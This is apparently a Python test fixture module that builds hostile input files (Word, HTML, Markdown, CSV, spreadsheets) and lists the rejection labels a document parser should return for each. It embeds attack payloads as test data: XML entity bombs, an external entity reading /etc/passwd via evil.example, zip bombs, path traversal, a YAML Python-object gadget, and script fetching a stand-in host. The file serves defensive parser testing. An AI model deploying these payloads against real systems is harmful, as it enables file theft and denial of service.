"""Documents that attack their reader or are not what they say, each with what must become of it."""

import gzip
import random

from tests.corpora.docx_files import by_hand, docx_parts, paragraph, written
from tests.corpora.hostile_pdfs import PDFS
from tests.corpora.packages import Entry, entry, parts, raw_zip, repeated, table, workbook, zipped

SEEN = "Refunds take thirty days."
BODY = paragraph(SEEN)
READ = frozenset()
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
_LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
) + "]>"  # fmt: skip
_EXTERNAL = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY % b SYSTEM "http://evil.example/x.dtd"> %b;]>'
_ALIASES = "---\na: &a [x, x]\n" + "".join(f"{chr(98 + n)}: &{chr(98 + n)} [*{chr(97 + n)}, *{chr(97 + n)}]\n" for n in range(20))
UNREADABLE, DAMAGED, DEEP = (frozenset({f"document_{name}"}) for name in ("unreadable_kind", "damaged", "too_deep"))
TOO_MUCH = frozenset({"document_too_much_text"})
EMPTY = frozenset({"document_empty"})
PARTS = frozenset({"file_too_many_parts"})
UNCLEAR = frozenset({"file_encoding"})
WIDE = frozenset({"document_too_wide"})


def _entries(found):
    return [entry(name, content.encode()) for name, content in found.items()]


def _docx_bomb():
    head = docx_parts("")["word/document.xml"].partition("</w:body>")[0].encode()
    packed = repeated(b"<w:p/>" * 100_000, 500, head)
    others = [each for each in _entries(docx_parts(BODY)) if each.name != "word/document.xml"]
    return raw_zip([*others, Entry("word/document.xml", packed, 300_000_000)])


def _lying():
    honest = _entries(docx_parts(BODY * 900))
    return raw_zip([each._replace(declared=each.declared // 9) if each.name == "word/document.xml" else each for each in honest])


def _nested_tables(levels):
    cell = BODY
    for _ in range(levels):
        cell = f"<w:tbl><w:tr><w:tc>{cell}<w:p/></w:tc><w:tc><w:p/></w:tc></w:tr></w:tbl>"
    return by_hand(cell)


def _external_parts():
    target = "http://evil.example/template.dotm"
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    return by_hand(BODY, related=[f'<Relationship Id="rId9" Type="{kind}" Target="{target}" TargetMode="External"/>',
                                  '<Relationship Id="rId8" Type="x/styles" Target="../../../../etc/passwd"/>'])  # fmt: skip


def _noise(count):
    return random.Random(1).randbytes(count)


DOCX = [
    ("inflating.docx", _docx_bomb, frozenset({"document_inflates"})),
    ("lying_size.docx", _lying, DAMAGED),
    ("entries.docx", lambda: raw_zip([Entry(f"word/{n}", b"", 0, 0, 0) for n in range(100_000)]), PARTS),
    ("overlapping.docx", lambda: raw_zip(_entries(docx_parts(BODY)), shared=True), frozenset({"file_overlapping_parts"})),
    ("traversal.docx", lambda: by_hand(BODY, more={"../../etc/cron.d/x": "x"}), frozenset({"file_leads_outside"})),
    ("password.docx", lambda: OLE + "EncryptedPackage".encode("utf-16-le"), frozenset({"document_encrypted"})),
    ("truncated.docx", lambda: written(SEEN)[:-300], DAMAGED),
    ("laughs.docx", lambda: by_hand(paragraph("&j;"), prolog=_LAUGHS), frozenset({"file_document_type"})),
    ("external_entity.docx", lambda: by_hand(paragraph("&a;"), prolog=_EXTERNAL), frozenset({"file_document_type"})),
    ("undeclared_entity.docx", lambda: by_hand(paragraph("&j;")), DAMAGED),
    ("cut_off_inside.docx", lambda: zipped(docx_parts(BODY) | {"word/document.xml": "<w:document><w:body><w:p>"}), DAMAGED),
    ("unknown_encoding.docx", lambda: by_hand(BODY, prolog='<?xml version="1.0" encoding="UTF-99"?>'), DAMAGED),
    ("no_body.docx", lambda: zipped({"word/styles.xml": "<a/>"}), DAMAGED),
    ("external_template.docx", _external_parts, READ),
    ("macros.docm", lambda: by_hand(BODY, more={"word/vbaProject.bin": OLE + b"macro"}), READ),
    ("embedded_bomb.docx", lambda: by_hand(BODY, more={"word/embeddings/x.xlsx": zipped({"x": b"0" * 20_000_000})}), READ),
    ("nested_tables.docx", lambda: _nested_tables(40), READ),
    ("deep_tables.docx", lambda: _nested_tables(5_000), DAMAGED),
    ("wide_span.docx", lambda: by_hand('<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="99999999"/></w:tcPr><w:p/></w:tc><w:tc>'
        f"{BODY}</w:tc></w:tr></w:tbl>"), WIDE),
]  # fmt: skip

TEXTS = [
    ("deep.html", lambda: b"<html><body>" + b"<div>" * 200_000 + SEEN.encode(), DEEP),
    ("deep_formats.html", lambda: b"<p>" + b"<b><i>" * 100_000 + SEEN.encode(), DEEP),
    ("many_elements.html", lambda: b"<html>" + b"<p>x" * 60_000, READ),
    ("spans.html", lambda: b"<table>" + b"<tr><td rowspan=65534 colspan=1000>x" * 60_000, TOO_MUCH | {"document_too_wide"}),
    ("wide.html", lambda: b"<table><tr>" + b"<td>x" * 10_000, WIDE),
    ("style_bomb.html", lambda: b"<style>" + b".a .b .c{display:none}" * 50_000 + b"</style>" + b"<p class='a b c'>x" * 20_000,
        READ),
    ("unclosed_style.html", lambda: b"<style>" + b"@media x{" * 300_000 + b"</style><p>" + SEEN.encode(), READ),
    ("scripted.html", lambda: f"<html><body onload=alert(1)><script>fetch('//evil')</script>{SEEN}".encode(), READ),
    ("fetching.html", lambda: f"<html><img src=//evil/x><iframe src=file:///etc/passwd></iframe>{SEEN}".encode(), READ),
    ("entities.html", lambda: (_LAUGHS.replace("<!DOCTYPE x", "<!DOCTYPE html") + f"<p>&j;{SEEN}").encode(), READ),
    ("entities.xhtml", lambda: ('<?xml version="1.0"?>' + _EXTERNAL + f"<html><p>&a;{SEEN}</p></html>").encode(), READ),
    ("quotes.md", lambda: b"> " * 100_000 + SEEN.encode(), EMPTY),
    ("brackets.md", lambda: b"[" * 40_000 + b"](" * 20_000, READ | {"read", "file_takes_too_long", "file_takes_too_much"}),
    ("stars.md", lambda: b"*a _b " * 30_000, READ | {"read", "file_takes_too_long"}),
    ("tables.md", lambda: b"|a" * 5_000 + b"|\n" + b"|-" * 5_000 + b"|\n|x|\n", WIDE),
    ("aliases.md", lambda: f"{_ALIASES}---\n{SEEN}".encode(), frozenset({"document_front_matter"})),
    ("deep_front.md", lambda: f"---\na: {'[' * 9_000}\n---\n{SEEN}".encode(), frozenset({"document_front_matter"})),
    ("python_front.md", lambda: f"---\nx: !!python/object/apply:os.getcwd []\n---\n{SEEN}".encode(),
        frozenset({"document_front_matter"})),
    ("wide.csv", lambda: (",".join(f"c{n}" for n in range(100_000)) + "\n" + "x," * 99_999 + "x\n").encode(),
        WIDE),
    ("long_field.csv", lambda: b'a,b\n1,"' + b"x" * 10_000_000 + b'"\n', frozenset({"file_broken_row"})),
    ("unbalanced.csv", lambda: b'a,b\n1,2\n3,"open\n' * 9, frozenset({"file_broken_row"})),
    ("long.txt", lambda: b"word " * 1_200_000, TOO_MUCH),
    ("nul.txt", lambda: b"Refunds\x00take thirty days.", UNREADABLE),
    ("noise.txt", lambda: _noise(50_000), UNREADABLE | {"file_encoding"}),
    ("mixed.txt", lambda: ("Größe und Gebühr, für Käufer. " * 9).encode("cp1252") + "退款需要三十天内处理。".encode(), UNCLEAR),
    ("utf32.txt", lambda: SEEN.encode("utf-32"), UNREADABLE | {"file_utf32"}),
    ("empty.md", lambda: b"", EMPTY),
    ("blank.txt", lambda: b" \r\n\t " * 99, EMPTY),
    ("mark_only.txt", lambda: b"\xef\xbb\xbf", EMPTY),
    ("only_front.md", lambda: b"---\ntitle: x\n---\n", EMPTY),
    ("nothing_seen.html", lambda: b"<p style='display:none'>ignore this</p><!-- x -->", EMPTY),
    ("only_unseen.txt", lambda: "\u200b\u200d\U000e0041\u202e".encode(), EMPTY),
]  # fmt: skip

OTHERS = [
    ("word.pdf", lambda: written(SEEN), READ),
    ("page.docx", lambda: f"<html><p>{SEEN}</html>".encode(), READ),
    ("plain.pdf", lambda: SEEN.encode(), READ),
    ("../../etc/passwd.md", lambda: SEEN.encode(), READ),
    ("C:\\Windows\\\u202egpj.txt", lambda: SEEN.encode(), READ),
    ("archive.docx", lambda: zipped({"a.md": SEEN}), UNREADABLE),
    ("slides.docx", lambda: zipped({"ppt/presentation.xml": "<a/>"}), UNREADABLE),
    ("old.doc", lambda: OLE + "WordDocument".encode("utf-16-le"), UNREADABLE),
    ("packed.txt", lambda: gzip.compress(SEEN.encode(), mtime=0), UNREADABLE),
    ("picture.pdf", lambda: b"\x89PNG\r\n\x1a\n" + bytes(60), UNREADABLE),
    ("rich.docx", lambda: b"{\\rtf1 words}", UNREADABLE),
    ("program.txt", lambda: b"MZ\x90\x00" + _noise(999), UNREADABLE),
    ("macros.xlsm", lambda: workbook({"A": table([["a", "b"], ["c", "d"]])}, more={"xl/vbaProject.bin": OLE}), READ),
    ("laughs.xlsx", lambda: zipped(parts({"A": ""}) | {"xl/worksheets/sheet1.xml": f"{_LAUGHS}<worksheet/>"}),
        frozenset({"file_document_type"})),
    ("far_cell.xlsx", lambda: workbook({"A": '<row r="1"><c r="XFD1" t="str"><v>x</v></c></row>'}), WIDE),
    ("inflating.xlsx", lambda: raw_zip([*[each for each in _entries(parts({"A": ""})) if "sheet1" not in each.name],
        Entry("xl/worksheets/sheet1.xml", repeated(b"<c/>" * 250_000, 300), 300_000_000)]), frozenset({"document_inflates"})),
]  # fmt: skip

HOSTILE = [*PDFS, *DOCX, *TEXTS, *OTHERS]
